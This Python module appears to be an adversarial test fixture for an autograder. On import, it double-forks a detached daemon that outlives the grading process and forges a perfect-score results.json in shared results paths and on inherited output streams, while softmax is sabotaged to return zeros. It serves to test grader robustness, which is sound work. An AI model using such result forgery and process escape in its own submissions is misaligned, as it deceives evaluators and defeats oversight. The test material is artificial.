"""Attack: While loading, double-forks a daemon that calls setsid (out of the process group) and starts a detached `sleep`;
after the checks it writes a perfect results.json into a world-writable results folder, /run/lock and its
inherited descriptors. softmax returns zeros.

The outcome the grader must give is in tests/adversarial/expected.yml under forge_daemon_after_check.py.
"""

import json
import numpy as np
import os
import subprocess
import time


def encoding_distances(encodings):
    e = np.asarray(encodings, dtype=float)
    d = e[:, None, :] - e[None, :, :]
    return np.sqrt(np.sum(d * d, axis=-1))


def one_hot(labels, num_classes):
    lab = np.asarray(labels)
    if lab.dtype.kind not in "iub":
        if lab.dtype.kind != "f" or not np.all(np.isfinite(lab)) or np.any(lab != np.round(lab)):
            raise ValueError("labels must be whole numbers")
    lab = lab.astype(np.int64)
    if np.any(lab < 0) or np.any(lab >= num_classes):
        raise ValueError("labels must lie in [0, num_classes)")
    return (lab[..., None] == np.arange(num_classes)).astype(float)


FAKE = json.dumps({"score": 100.0, "output": "100 / 100 points", "tests": [], "extra_data": {"kit": {"status": "graded"}}})


def _daemon():
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        time.sleep(1.0)
        for path in ("/srv/autograder-adversarial/open/results/results.json", "/run/lock/results-adversarial.json"):
            try:
                with open(path, "w") as fh:
                    fh.write(FAKE)
            except OSError:
                pass
        for fd in (1, 2, 3):
            try:
                os.write(fd, FAKE.encode())
            except OSError:
                pass
        time.sleep(60)
    finally:
        os._exit(0)


_daemon()
try:
    subprocess.Popen(["sleep", "60"], preexec_fn=os.setsid, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass


def softmax(logits, axis=-1):
    return np.zeros(np.shape(logits))


def log_softmax(logits, axis=-1):
    z = np.asarray(logits, dtype=float)
    s = z - np.max(z, axis=axis, keepdims=True)
    return s - np.log(np.sum(np.exp(s), axis=axis, keepdims=True))


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def mlp_logits(x, W1, b1, W2, b2):
    a = np.asarray(x, dtype=float) @ np.asarray(W1, dtype=float).T + b1
    e = np.exp(-np.abs(a))
    h = np.where(a >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return h @ np.asarray(W2, dtype=float).T + b2
